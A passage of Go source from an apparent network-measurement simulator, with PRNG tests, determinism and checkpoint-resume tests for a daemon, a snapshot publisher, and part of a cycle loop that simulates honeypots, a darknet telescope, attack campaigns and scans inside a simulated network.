func TestShufflePreservesElements(t *testing.T) {
	s := New(8)
	vals := []int{1, 2, 3, 4, 5, 6}
	sum := 0
	s.Shuffle(len(vals), func(i, j int) { vals[i], vals[j] = vals[j], vals[i] })
	for _, v := range vals {
		sum += v
	}
	if sum != 21 {
		t.Fatalf("shuffle lost elements: sum=%d", sum)
	}
}

func TestWeightedChoiceDistribution(t *testing.T) {
	s := New(9)
	weights := []float64{1, 0, 3}
	counts := make([]int, 3)
	const n = 100000
	for i := 0; i < n; i++ {
		counts[s.WeightedChoice(weights)]++
	}
	if counts[1] != 0 {
		t.Fatalf("zero-weight index selected %d times", counts[1])
	}
	ratio := float64(counts[2]) / float64(counts[0])
	if math.Abs(ratio-3) > 0.2 {
		t.Fatalf("weight ratio %f, want ~3", ratio)
	}
}

func TestWeightedChoicePanicsOnZeroTotal(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	New(1).WeightedChoice([]float64{0, 0})
}

func TestZipfianSkew(t *testing.T) {
	s := New(10)
	z := NewZipfian(100, 1.0)
	counts := make([]int, 100)
	const n = 100000
	for i := 0; i < n; i++ {
		counts[z.Sample(s)]++
	}
	if counts[0] <= counts[50] {
		t.Fatalf("rank 0 (%d) not more frequent than rank 50 (%d)", counts[0], counts[50])
	}
	// Under alpha=1 the head rank should carry roughly 1/H(100) ~ 19% of mass.
	frac := float64(counts[0]) / n
	if frac < 0.15 || frac > 0.25 {
		t.Fatalf("head rank mass %f outside [0.15, 0.25]", frac)
	}
}

func TestZipfSampleInRange(t *testing.T) {
	if err := quick.Check(func(seed uint64) bool {
		s := New(seed)
		v := s.Zipf(10, 1.2)
		return v >= 0 && v < 10
	}, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkUint64(b *testing.B) {
	s := New(1)
	for i := 0; i < b.N; i++ {
		s.Uint64()
	}
}

func BenchmarkHash64(b *testing.B) {
	s := New(1)
	for i := 0; i < b.N; i++ {
		s.Hash64(uint64(i), 7)
	}
}
