package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"

	"openhire/internal/netsim"
	"openhire/internal/obs"
)

// testConfig is the small-world daemon config the tests share: a /24
// population, fractional attack intensity and telescope scale, and a scan
// cadence that leaves a sweep in flight across cycle boundaries.
func testConfig(workers int) Config {
	return Config{
		Seed:             11,
		Prefix:           netsim.MustParsePrefix("100.0.0.0/24"),
		Boost:            16,
		Workers:          workers,
		Intensity:        0.002,
		Scale:            0.0002,
		SegmentsPerCycle: 2,
		SegmentTargets:   64,
	}
}

// collect runs a fresh loop for cycles cycles and returns every published
// snapshot keyed by its watermark cycle.
func collect(t *testing.T, cfg Config, cycles int) map[int]*Published {
	t.Helper()
	snaps := make(map[int]*Published)
	cfg.OnPublish = func(s *Published) { snaps[s.Watermark.Cycle] = s }
	l := New(cfg)
	if err := l.Run(context.Background(), cycles); err != nil {
		t.Fatal(err)
	}
	return snaps
}

// scrubOps drops the status body's wall-clock ops block, leaving only the
// deterministic fields (sorted-key re-marshal) for byte comparison.
func scrubOps(t *testing.T, body []byte) []byte {
	t.Helper()
	var m map[string]json.RawMessage
	if err := json.Unmarshal(body, &m); err != nil {
		t.Fatalf("status body: %v", err)
	}
	delete(m, "ops")
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// sameSnapshot asserts every endpoint body matches between two snapshots
// (status bodies compared with the wall-clock ops block scrubbed).
func sameSnapshot(t *testing.T, label string, want, got *Published) {
	t.Helper()
	if got == nil || want == nil {
		t.Fatalf("%s: missing snapshot (want %v, got %v)", label, want != nil, got != nil)
	}
	for _, b := range []struct {
		name      string
		want, got []byte
	}{
		{"exposure", want.Exposure, got.Exposure},
		{"trends", want.Trends, got.Trends},
		{"correlate", want.Correlate, got.Correlate},
		{"status", scrubOps(t, want.Status), scrubOps(t, got.Status)},
	} {
		if !bytes.Equal(b.want, b.got) {
			t.Errorf("%s: /api/%s bodies differ:\n want: %s\n got:  %s", label, b.name, b.want, b.got)
		}
	}
}

// TestSnapshotsWorkerCountIndependent asserts every published snapshot — not
// just the final one — is byte-identical across worker counts: the aggregates
// fold canonical (order-normalized) leg outputs on the single-threaded cycle
// driver, so scheduling never leaks into the API.
func TestSnapshotsWorkerCountIndependent(t *testing.T) {
	const cycles = 3
	golden := collect(t, testConfig(9), cycles)
	if len(golden) != cycles {
		t.Fatalf("published %d snapshots, want %d", len(golden), cycles)
	}
	for _, workers := range []int{1, 7} {
		snaps := collect(t, testConfig(workers), cycles)
		for c := 1; c <= cycles; c++ {
			sameSnapshot(t, fmt.Sprintf("workers=%d cycle=%d", workers, c), golden[c], snaps[c])
		}
	}
}

// TestSweepCompletionFolds drives enough segments per cycle for whole sweeps
// to finish, and asserts the exposure table actually rolls over: completed
// sweeps accumulate into the totals and the misconfiguration classifier sees
// real responders (the /24 at boost 16 exposes a few hundred endpoints).
func TestSweepCompletionFolds(t *testing.T) {
	cfg := testConfig(9)
	cfg.SegmentsPerCycle = 10000 // a whole sweep per cycle
	cfg.SegmentTargets = 512
	var last *Published
	cfg.OnPublish = func(s *Published) { last = s }
	l := New(cfg)
	if err := l.Run(context.Background(), 2); err != nil {
		t.Fatal(err)
	}
	if last.Watermark.SweepsComplete != 2 {
		t.Fatalf("sweeps complete = %d, want 2", last.Watermark.SweepsComplete)
	}
	if l.agg.Exposure.Total == nil || l.agg.Exposure.Complete == nil {
		t.Fatal("no exposure tables after two complete sweeps")
	}
	var misconfigured, responded uint64
	for _, e := range l.agg.Exposure.Total {
		misconfigured += e.Misconfigured
		responded += e.Responded
	}
	if responded == 0 || misconfigured == 0 {
		t.Fatalf("total exposure: responded=%d misconfigured=%d, want both > 0", responded, misconfigured)
	}
	if got := l.agg.Correlation().Misconfigured; got == 0 {
		t.Fatal("no misconfigured devices in the correlation set after a full sweep")
	}
}

// TestKillResumeSnapshots asserts a checkpointed daemon killed between cycles
// and restored by a fresh Loop publishes byte-identical snapshots: the
// restored position's immediate re-publish matches the killed run's last
// commit, and the continued cycles match an uninterrupted golden run.
func TestKillResumeSnapshots(t *testing.T) {
	const total = 3
	golden := collect(t, testConfig(9), total)

	dir := t.TempDir()
	cfg := testConfig(9)
	cfg.CheckpointDir = dir
	first := New(cfg)
	if err := first.Run(context.Background(), 2); err != nil {
		t.Fatal(err)
	}

	// A different worker count after the "kill" — resume must not care.
	cfg = testConfig(4)
	cfg.CheckpointDir = dir
	snaps := make(map[int]*Published)
	cfg.OnPublish = func(s *Published) { snaps[s.Watermark.Cycle] = s }
	second := New(cfg)
	found, err := second.Restore()
	if err != nil {
		t.Fatal(err)
	}
	if !found {
		t.Fatal("Restore found no checkpoint")
	}
	if second.Cycle() != 2 {
		t.Fatalf("restored at cycle %d, want 2", second.Cycle())
	}
	sameSnapshot(t, "restored re-publish", golden[2], snaps[2])
	if err := second.Run(context.Background(), total); err != nil {
		t.Fatal(err)
	}
	sameSnapshot(t, "resumed cycle 3", golden[3], snaps[3])

	aggJSON, err := second.AggregatesJSON()
	if err != nil {
		t.Fatal(err)
	}
	uninterrupted := New(testConfig(9))
	if err := uninterrupted.Run(context.Background(), total); err != nil {
		t.Fatal(err)
	}
	wantJSON, err := uninterrupted.AggregatesJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(aggJSON, wantJSON) {
		t.Errorf("resumed AggregatesJSON differs from uninterrupted run")
	}

	// The sim time-series state is part of the determinism contract too: the
	// resumed observatory must land on the uninterrupted run's exact bytes.
	gotTS, err := second.Observatory().Sim.MarshalState()
	if err != nil {
		t.Fatal(err)
	}
	wantTS, err := uninterrupted.Observatory().Sim.MarshalState()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(gotTS, wantTS) {
		t.Errorf("resumed sim tsdb state differs from uninterrupted run:\n want: %s\n got:  %s", wantTS, gotTS)
	}
}

// TestAPIBeforeFirstCommit asserts every /api endpoint answers 503 until a
// cycle commits.
func TestAPIBeforeFirstCommit(t *testing.T) {
	l := New(testConfig(1))
	addr, closer, err := obs.StartServer("127.0.0.1:0", NewMux(l.Publisher(), nil, l.Observatory()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = closer() }()
	for _, ep := range []string{"/api/exposure", "/api/trends", "/api/correlate", "/api/status", "/api/timeseries"} {
		resp, err := http.Get("http://" + addr + ep)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusServiceUnavailable {
			t.Errorf("%s before first commit: status %d, want 503", ep, resp.StatusCode)
		}
	}
}

// TestConcurrentScrapeZeroPerturbation hammers every query endpoint from
// concurrent scrapers while the cycle loop runs, and asserts (a) every
// response is a complete JSON body from some committed watermark, and (b) the
// final aggregates are byte-identical to an unobserved run — the scrape load
// cannot perturb the measurement. Run under -race this also proves the
// publisher handoff is race-free.
func TestConcurrentScrapeZeroPerturbation(t *testing.T) {
	const cycles = 3
	bare := New(testConfig(9))
	if err := bare.Run(context.Background(), cycles); err != nil {
		t.Fatal(err)
	}
	want, err := bare.AggregatesJSON()
	if err != nil {
		t.Fatal(err)
	}

	cfg := testConfig(9)
	cfg.Registry = obs.NewRegistry()
	l := New(cfg)
	addr, closer, err := obs.StartServer("127.0.0.1:0", NewMux(l.Publisher(), cfg.Registry, l.Observatory()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = closer() }()

	stop := make(chan struct{})
	var wg sync.WaitGroup
	endpoints := []string{"/api/exposure", "/api/trends", "/api/correlate", "/api/status",
		"/api/timeseries", "/api/timeseries?metric=serve.trend.attack_events",
		"/metrics", "/metrics?format=prom"}
	errCh := make(chan error, len(endpoints))
	for _, ep := range endpoints {
		wg.Add(1)
		go func(ep string) {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				resp, err := http.Get("http://" + addr + ep)
				if err != nil {
					errCh <- err
					return
				}
				body, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil {
					errCh <- err
					return
				}
				if resp.StatusCode == http.StatusServiceUnavailable {
					continue
				}
				if resp.StatusCode != http.StatusOK {
					errCh <- fmt.Errorf("%s: status %d", ep, resp.StatusCode)
					return
				}
				// API bodies are newline-terminated by construction; a
				// missing terminator means a torn read. The registry may
				// legitimately serve an empty prom body before any gauge
				// is set.
				if strings.HasPrefix(ep, "/api/") && (len(body) == 0 || body[len(body)-1] != '\n') {
					errCh <- fmt.Errorf("%s: truncated body (%d bytes)", ep, len(body))
					return
				}
			}
		}(ep)
	}
	runErr := l.Run(context.Background(), cycles)
	close(stop)
	wg.Wait()
	close(errCh)
	if runErr != nil {
		t.Fatal(runErr)
	}
	for err := range errCh {
		t.Error(err)
	}

	got, err := l.AggregatesJSON()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(want, got) {
		t.Errorf("scraped run's aggregates differ from unobserved run")
	}
}

// TestIPSetRoundTrip asserts the deterministic marshal form and that an
// empty set survives a JSON round trip as nil (checkpoint byte-identity for
// fresh vs restored-empty state).
func TestIPSetRoundTrip(t *testing.T) {
	var s IPSet
	s.Add(netsim.MustParseIPv4("10.0.0.2"))
	s.Add(netsim.MustParseIPv4("10.0.0.1"))
	data, err := s.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("[%d,%d]", uint32(netsim.MustParseIPv4("10.0.0.1")), uint32(netsim.MustParseIPv4("10.0.0.2")))
	if string(data) != want {
		t.Fatalf("marshal = %s, want %s", data, want)
	}
	var back IPSet
	if err := back.UnmarshalJSON([]byte("[]")); err != nil {
		t.Fatal(err)
	}
	if back != nil {
		t.Fatal("empty set did not round-trip to nil")
	}
}
