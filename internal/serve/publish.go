package serve

import (
	"encoding/json"
	"sync/atomic"
)

// Published is one immutable query-API snapshot: every endpoint's body is
// pre-rendered at publish time, so serving a request is a pointer load plus
// a buffer write — arbitrary concurrent readers never touch the cycle
// driver's live state, and a snapshot's bytes for a given watermark are
// identical across runs, worker counts and kill/resume cycles.
type Published struct {
	Watermark Watermark
	// Exposure, Trends, Correlate and Status are the rendered JSON bodies.
	Exposure  []byte
	Trends    []byte
	Correlate []byte
	Status    []byte
}

// Publisher hands immutable snapshots from the cycle driver to the API
// handlers, copy-on-write: the driver renders a fresh Published and swaps
// the pointer; readers load whatever snapshot is current. Same pattern as
// the netsim lookup tables — writers never mutate what readers hold.
type Publisher struct {
	cur atomic.Pointer[Published]
}

// Publish swaps in a new snapshot.
func (p *Publisher) Publish(s *Published) { p.cur.Store(s) }

// Snapshot returns the current snapshot, or nil before the first publish.
func (p *Publisher) Snapshot() *Published { return p.cur.Load() }

// statusBody is the /api/status rendering: the watermark plus the resolved
// run parameters, so a client can tell which (seed, config, watermark)
// triple a response belongs to.
type statusBody struct {
	Watermark Watermark `json:"watermark"`
	Seed      uint64    `json:"seed"`
	Prefix    string    `json:"prefix"`
	Intensity float64   `json:"intensity"`
	Scale     float64   `json:"scale"`
	// SegmentsPerCycle and SegmentTargets describe the scan cadence.
	SegmentsPerCycle int `json:"segments_per_cycle"`
	SegmentTargets   int `json:"segment_targets"`
	// Ops is the operational-health block. Everything in it is wall-clock
	// self-profiling — excluded from determinism comparisons, which scrub
	// this key before diffing status bodies.
	Ops *OpsStatus `json:"ops,omitempty"`
}

// OpsStatus reports the daemon's operational health on /api/status.
type OpsStatus struct {
	// CyclesCompleted mirrors the watermark cycle for dashboards.
	CyclesCompleted int `json:"cycles_completed"`
	// LastCycleWallNS is the previous cycle's total wall time; LegWallNS
	// attributes it across the legs (campaign/telescope/honeypots/scan/commit).
	LastCycleWallNS int64            `json:"last_cycle_wall_ns"`
	LegWallNS       map[string]int64 `json:"leg_wall_ns,omitempty"`
	// CheckpointLag is cycles completed since the last durable checkpoint
	// (equals CyclesCompleted when checkpointing is off).
	CheckpointLag int `json:"checkpoint_lag"`
	// TSDBRetentionCycles and TSDBSeries describe the observatory's raw
	// retention window and sim-stream series count.
	TSDBRetentionCycles int `json:"tsdb_retention_cycles"`
	TSDBSeries          int `json:"tsdb_series"`
}

// exposureBody is the /api/exposure rendering.
type exposureBody struct {
	Watermark Watermark     `json:"watermark"`
	Exposure  ExposureState `json:"exposure"`
}

// trendsBody is the /api/trends rendering.
type trendsBody struct {
	Watermark Watermark  `json:"watermark"`
	Trends    TrendState `json:"trends"`
}

// correlateBody is the /api/correlate rendering.
type correlateBody struct {
	Watermark   Watermark   `json:"watermark"`
	Correlation Correlation `json:"correlation"`
}

// render builds the immutable snapshot for the aggregate state after cycle
// completed cycles. Marshalling deep-copies everything the handlers will
// ever see, so the driver is free to keep mutating the live aggregates.
func render(a *Aggregates, cycle int, st statusBody) (*Published, error) {
	w := a.Watermark(cycle)
	st.Watermark = w
	out := &Published{Watermark: w}
	var err error
	if out.Exposure, err = marshalBody(exposureBody{w, a.Exposure}); err != nil {
		return nil, err
	}
	if out.Trends, err = marshalBody(trendsBody{w, a.Trends}); err != nil {
		return nil, err
	}
	if out.Correlate, err = marshalBody(correlateBody{w, a.Correlation()}); err != nil {
		return nil, err
	}
	if out.Status, err = marshalBody(st); err != nil {
		return nil, err
	}
	return out, nil
}

// marshalBody renders one endpoint body: indented for humans, newline-
// terminated for curl.
func marshalBody(v any) ([]byte, error) {
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(data, '\n'), nil
}
