package serve

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"strings"

	"openhire/internal/attack"
	"openhire/internal/attack/malware"
	"openhire/internal/checkpoint"
	"openhire/internal/checkpoint/crashpoint"
	"openhire/internal/core/scan"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/obs"
	"openhire/internal/obs/tsdb"
	"openhire/internal/prng"
	"openhire/internal/telescope"
)

// monthDays is the length of one attack month in cycles: the daemon replays
// the paper's calibrated month over and over, reseeding per month.
const monthDays = attack.ExperimentDays

// DefaultSegmentsPerCycle is how many scan segment commits one cycle drains.
const DefaultSegmentsPerCycle = 4

// errPause is the onCommit sentinel that stops the segmented scanner after
// this cycle's segment allowance; the committed state resumes next cycle.
var errPause = errors.New("serve: pause sweep until next cycle")

// Config parameterizes the daemon.
type Config struct {
	// Seed drives every leg. Month m reseeds the campaign and darknet with
	// Hash64("serve-month", m); sweep s reseeds the scan permutation with
	// Hash64("serve-sweep", s) — so cycles far apart stay decorrelated while
	// remaining pure functions of (Seed, Config).
	Seed uint64
	// Prefix is the scanned (and attack-sourced) IoT population range.
	Prefix netsim.Prefix
	// Boost is the universe density boost (0 = 16).
	Boost float64
	// Workers is per-leg concurrency (0 = 64).
	Workers int
	// Intensity scales the attack month's event volume (0 = 1/16).
	Intensity float64
	// Scale divides the telescope's paper volumes (0 = 1/8192).
	Scale float64
	// SegmentsPerCycle is the scan segment commits drained per cycle
	// (0 = DefaultSegmentsPerCycle).
	SegmentsPerCycle int
	// SegmentTargets sizes each scan segment (0 = scan default).
	SegmentTargets int
	// CheckpointDir, when set, commits durable state every cycle; Resume
	// continues from the checkpoint found there (fresh start if none).
	CheckpointDir string
	Resume        bool
	// TelescopeDir, when set, persists each cycle's drained telescope
	// capture as rotated hourly CSV files under this directory.
	TelescopeDir string
	// TSDBDisabled turns the time-series observatory off entirely. The
	// zero-perturbation gate compares runs with it on and off.
	TSDBDisabled bool
	// TSDBRetention overrides the observatory's raw retention window in
	// cycles (0 = tsdb default).
	TSDBRetention int
	// Registry, when set, receives watermark gauges at each cycle commit.
	Registry *obs.Registry
	// OnPublish, when set, is called with each published snapshot after the
	// cycle's checkpoint (if any) is durable. It runs on the single-threaded
	// cycle driver; tests hang determinism probes here.
	OnPublish func(*Published)
}

// withDefaults resolves the zero values.
func (c Config) withDefaults() Config {
	if c.Boost == 0 {
		c.Boost = 16
	}
	if c.Workers == 0 {
		c.Workers = 64
	}
	if c.Intensity == 0 {
		c.Intensity = 1.0 / 16
	}
	if c.Scale == 0 {
		c.Scale = 1.0 / 8192
	}
	if c.SegmentsPerCycle <= 0 {
		c.SegmentsPerCycle = DefaultSegmentsPerCycle
	}
	return c
}

// monthState is the attack month's live world: honeypot fabric, telescope
// and darknet generator, all seeded for the current month and discarded at
// the month boundary. Rebuilt on restore by replaying construction.
type monthState struct {
	clock   *netsim.SimClock
	network *netsim.Network
	pots    []*honeypot.Honeypot
	log     *honeypot.Log
	tel     *telescope.Telescope
	gen     *attack.DarknetGenerator
}

// serveCheckpoint is the daemon's durable state, committed at every cycle
// boundary where all three legs are quiescent. The worlds are rebuilt by
// replaying construction (pure functions of seed and month/sweep index), so
// the state is just the resumable leg positions plus the aggregates.
type serveCheckpoint struct {
	// Cycle is the number of completed cycles.
	Cycle int `json:"cycle"`
	// Campaign is the attack scheduler's position (nil at month boundary).
	Campaign *attack.CampaignResume `json:"campaign,omitempty"`
	// Scan is the segmented scanner's position (nil between sweeps).
	Scan *scan.SegmentedState `json:"scan,omitempty"`
	// Events is the current month's honeypot log in canonical JSONL form
	// ("" at a month boundary).
	Events string `json:"events,omitempty"`
	// Agg is the complete derived state.
	Agg *Aggregates `json:"agg"`
	// TSDB is the sim-deterministic time-series state at this cycle, the
	// source of truth on restore. TSDBDigest is the standalone
	// serve-tsdb.ckpt file's content digest; Restore rewrites that file
	// when it disagrees (a kill landed between the two writes).
	TSDB       *tsdb.State `json:"tsdb,omitempty"`
	TSDBDigest string      `json:"tsdb_digest,omitempty"`
	// TelescopeFiles maps persisted hourly capture file names to content
	// digests, for the run manifest.
	TelescopeFiles map[string]string `json:"telescope_files,omitempty"`
	// Checkpoints records every checkpoint committed before this one.
	Checkpoints []obs.CheckpointRecord `json:"checkpoints,omitempty"`
}

// Loop is the cycle driver. All fields are owned by the single goroutine
// calling Run; concurrent readers only ever see the Publisher's snapshots.
type Loop struct {
	cfg Config
	pub *Publisher
	agg *Aggregates

	// Shared across months and sweeps: the scanned population and the geo
	// database are seed-global, like the batch binaries'.
	universe *iot.Universe
	geodb    *geo.DB
	scanNet  *netsim.Network
	modules  []scan.ProbeModule

	cycle          int
	month          *monthState
	campaignResume *attack.CampaignResume
	scanner        *scan.Scanner
	scanState      *scan.SegmentedState
	ckpts          []obs.CheckpointRecord

	// obsv is the time-series observatory (nil when disabled). telFiles
	// accumulates persisted hourly telescope file digests; lastCkptCycle
	// backs the /api/status checkpoint-lag gauge.
	obsv          *Observatory
	telFiles      map[string]string
	lastCkptCycle int
}

// New builds a Loop (fresh, cycle 0). Call Restore before Run to continue
// from a checkpoint.
func New(cfg Config) *Loop {
	cfg = cfg.withDefaults()
	universe := iot.NewUniverse(iot.UniverseConfig{
		Seed: cfg.Seed, Prefix: cfg.Prefix, DensityBoost: cfg.Boost,
	})
	scanNet := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	scanNet.AddProvider(cfg.Prefix, universe)
	return &Loop{
		cfg:      cfg,
		pub:      &Publisher{},
		agg:      &Aggregates{},
		universe: universe,
		geodb:    geo.NewDB(cfg.Seed, nil),
		scanNet:  scanNet,
		modules:  scan.AllModules(),
		obsv:     newObservatory(cfg),
	}
}

// Publisher returns the snapshot publisher the API handlers read.
func (l *Loop) Publisher() *Publisher { return l.pub }

// Observatory returns the time-series observatory (nil when disabled).
func (l *Loop) Observatory() *Observatory { return l.obsv }

// Cycle returns the number of completed cycles.
func (l *Loop) Cycle() int { return l.cycle }

// Checkpoints returns the records committed so far (for the manifest).
func (l *Loop) Checkpoints() []obs.CheckpointRecord { return l.ckpts }

// TelescopeFiles returns the persisted hourly capture digests (for the
// manifest); nil when TelescopeDir is unset.
func (l *Loop) TelescopeFiles() map[string]string { return l.telFiles }

// monthSeed derives month m's campaign/darknet seed.
func (l *Loop) monthSeed(m int) uint64 {
	return prng.New(l.cfg.Seed).Hash64(prng.HashString("serve-month"), uint64(m))
}

// sweepSeed derives sweep s's scan permutation seed.
func (l *Loop) sweepSeed(s int) uint64 {
	return prng.New(l.cfg.Seed).Hash64(prng.HashString("serve-sweep"), uint64(s))
}

// buildMonth replays month m's world construction: a fresh clock and fabric,
// the six honeypots, the telescope, and a darknet generator whose Sources
// instance shares the month seed (DeriveInfected is position-independent, so
// the generator's infected Telnet scanners are the same devices the campaign
// infects — the Section 5.3 cross-dataset joins stay faithful).
func (l *Loop) buildMonth(m int) *monthState {
	ms := l.monthSeed(m)
	clock := netsim.NewSimClock(netsim.ExperimentStart)
	network := netsim.NewNetwork(clock)
	network.AddProvider(l.cfg.Prefix, l.universe)
	pots, log := honeypot.DeployAll(network, netsim.MustParseIPv4("130.226.56.10"))
	tel := telescope.New(netsim.MustParsePrefix("44.0.0.0/8"), l.geodb)
	gen := attack.NewDarknetGenerator(attack.DarknetConfig{
		Seed:      ms,
		Telescope: tel,
		Sources:   attack.NewSources(ms, l.universe, nil, nil),
		GeoDB:     l.geodb,
		Scale:     l.cfg.Scale,
		Days:      monthDays,
		Workers:   l.cfg.Workers,
	})
	return &monthState{clock: clock, network: network, pots: pots, log: log, tel: tel, gen: gen}
}

// Restore loads the checkpoint from cfg.CheckpointDir, if one exists, and
// rebuilds the live worlds around it. Returns whether a checkpoint was found.
func (l *Loop) Restore() (bool, error) {
	st := &serveCheckpoint{Agg: l.agg}
	recd, err := checkpoint.Load(l.cfg.CheckpointDir, "serve", l.cfg.Seed, st)
	if errors.Is(err, os.ErrNotExist) {
		return false, nil
	}
	if err != nil {
		return false, err
	}
	// Re-derive the record's position name from the restored history, so
	// checkpoint chains are kill-history independent.
	recd.Name = fmt.Sprintf("cycle%04d", len(st.Checkpoints))
	st.Checkpoints = append(st.Checkpoints, recd)
	l.cycle = st.Cycle
	l.agg = st.Agg
	l.campaignResume = st.Campaign
	l.scanState = st.Scan
	l.ckpts = st.Checkpoints
	l.telFiles = st.TelescopeFiles
	l.lastCkptCycle = st.Cycle
	if l.obsv != nil && st.TSDB != nil {
		// The embedded state is the source of truth; the standalone file is
		// rewritten when its digest disagrees (the kill landed between the
		// tsdb file write and the serve record), so the file converges on the
		// uninterrupted run's bytes regardless of kill history.
		if err := l.obsv.Sim.LoadState(st.TSDB); err != nil {
			return false, fmt.Errorf("checkpoint tsdb: %w", err)
		}
		data, err := os.ReadFile(checkpoint.FileName(l.cfg.CheckpointDir, "serve-tsdb"))
		if err != nil || obs.Digest(data) != st.TSDBDigest {
			if _, err := checkpoint.Save(l.cfg.CheckpointDir, "serve-tsdb", recd.Name, l.cfg.Seed, st.TSDB); err != nil {
				return false, err
			}
		}
	}
	if l.obsv != nil {
		// Wall stream: best effort. Profiling history survives restarts when
		// the file is readable; otherwise the stream just starts fresh.
		wallSt := &tsdb.State{}
		if _, err := checkpoint.Load(l.cfg.CheckpointDir, "serve-tsdb-wall", l.cfg.Seed, wallSt); err == nil {
			if err := l.obsv.Wall.LoadState(wallSt); err != nil {
				l.obsv.Wall = tsdb.New(l.obsv.Sim.Options())
			}
		}
	}
	if l.cycle%monthDays != 0 {
		// Mid-month: rebuild the month world and replay the committed days'
		// events into the log (append order is free — every consumer sorts).
		l.month = l.buildMonth(l.cycle / monthDays)
		evs, err := honeypot.ImportJSONL(strings.NewReader(st.Events))
		if err != nil {
			return false, fmt.Errorf("checkpoint events: %w", err)
		}
		for _, ev := range evs {
			l.month.log.Append(ev)
		}
	}
	// Publish the restored position immediately: the API answers from the
	// committed watermark while the next cycle runs.
	return true, l.publish()
}

// Run drives cycles until ctx is cancelled or, when cycles > 0, the total
// completed-cycle count reaches cycles (a resumed run continues toward the
// same target). Cancellation is honored at cycle boundaries only — a cycle's
// legs always run to their commit barrier, so determinism never depends on
// when the signal lands.
func (l *Loop) Run(ctx context.Context, cycles int) error {
	for cycles <= 0 || l.cycle < cycles {
		if ctx.Err() != nil {
			return nil
		}
		if err := l.runCycle(); err != nil {
			return err
		}
	}
	return nil
}

// runCycle executes one simulated day across all three legs and commits.
func (l *Loop) runCycle() error {
	m, d := l.cycle/monthDays, l.cycle%monthDays
	if l.month == nil {
		l.month = l.buildMonth(m)
	}
	// The cycle span attributes wall time across the legs for the tsdb wall
	// stream and /api/status; it never touches sim state.
	var span *obs.CycleSpan
	if l.obsv != nil {
		span = obs.StartCycleSpan()
	}

	// Attack leg: one campaign day. The seeded world (pools, plans, intel
	// services) is rebuilt each cycle by replaying construction — Sources is
	// stateful, so only a fresh instance replays the same pool builds — and
	// the scheduler position chains through Resume.
	ms := l.monthSeed(m)
	rdns := geo.NewRDNS(ms)
	gn := intel.NewGreyNoise(ms, 0.81)
	vt := intel.NewVirusTotal()
	sources := attack.NewSources(ms, l.universe, rdns, gn)
	var captured attack.CampaignResume
	var campaign *attack.Campaign
	campaign = attack.NewCampaign(attack.CampaignConfig{
		Seed:       ms,
		Network:    l.month.network,
		Honeypots:  l.month.pots,
		Universe:   l.universe,
		Sources:    sources,
		Corpus:     malware.NewCorpus(ms, nil),
		Intensity:  l.cfg.Intensity,
		Workers:    l.cfg.Workers,
		Clock:      l.month.clock,
		GreyNoise:  gn,
		VirusTotal: vt,
		RDNS:       rdns,
		Resume:     l.campaignResume,
		Days:       1,
		OnDay: func(day, planned, run int) {
			captured = campaign.SchedulerState(day, planned, run)
		},
	})
	// context.Background() deliberately: a mid-day cancel would tear the
	// fabric mid-flight and break byte-identity. Run's boundary check is the
	// only cancellation point.
	campaign.Run(context.Background())
	l.campaignResume = &captured
	span.Mark("campaign")

	// Telescope leg: generate and drain the darknet day, folding volume and
	// rotation buckets into the day's trend row; when TelescopeDir is set,
	// the drained day is also persisted as rotated hourly capture files.
	l.month.gen.RunDay(d)
	flows := l.month.tel.Drain()
	l.agg.FoldTelescopeDay(l.cycle, attack.DayStart(d), flows)
	if l.cfg.TelescopeDir != "" {
		if l.telFiles == nil {
			l.telFiles = make(map[string]string)
		}
		if err := writeHourFiles(l.cfg.TelescopeDir, l.cycle, attack.DayStart(d), flows, l.telFiles); err != nil {
			return err
		}
	}
	span.Mark("telescope")

	// Honeypot trends: re-derive the month's rows from the canonical log.
	events := l.month.log.Events()
	honeypot.SortEventsCanonical(events)
	l.agg.FoldMonthEvents(m, d, events)
	span.Mark("honeypots")

	// Scan leg: drain this cycle's segment allowance.
	if err := l.stepScan(); err != nil {
		return err
	}
	span.Mark("scan")

	if d == monthDays-1 {
		// Month complete: the world is discarded; next cycle reseeds.
		l.month = nil
		l.campaignResume = nil
	}
	l.cycle++
	return l.commit(events, span)
}

// stepScan advances the in-flight sweep by up to SegmentsPerCycle segment
// commits, folding each drained segment into the exposure tables. A sweep
// that finishes inside the allowance closes out; the next cycle starts the
// next sweep with a fresh permutation seed.
func (l *Loop) stepScan() error {
	if l.scanner == nil {
		l.scanner = scan.NewScanner(scan.Config{
			Network:   l.scanNet,
			Source:    netsim.MustParseIPv4("130.226.0.1"),
			Prefix:    l.cfg.Prefix,
			Seed:      l.sweepSeed(l.agg.Exposure.Sweep),
			Workers:   l.cfg.Workers,
			OnSegment: l.agg.FoldSegment,
		})
	}
	segs := 0
	onCommit := func(st *scan.SegmentedState) error {
		l.scanState = st
		segs++
		if segs >= l.cfg.SegmentsPerCycle {
			return errPause
		}
		return nil
	}
	_, stats, err := l.scanner.RunSegmented(context.Background(), l.modules, l.scanState, l.cfg.SegmentTargets, onCommit)
	switch {
	case err == nil:
		l.agg.FoldSweepStats(stats)
		l.agg.FinishSweep()
		l.scanner = nil
		l.scanState = nil
	case errors.Is(err, errPause):
		// Sweep paused mid-prefix; l.scanState resumes it next cycle.
	default:
		return err
	}
	return nil
}

// commit makes the finished cycle durable (when checkpointing) and publishes
// the snapshot — in that order, so a published watermark is always backed by
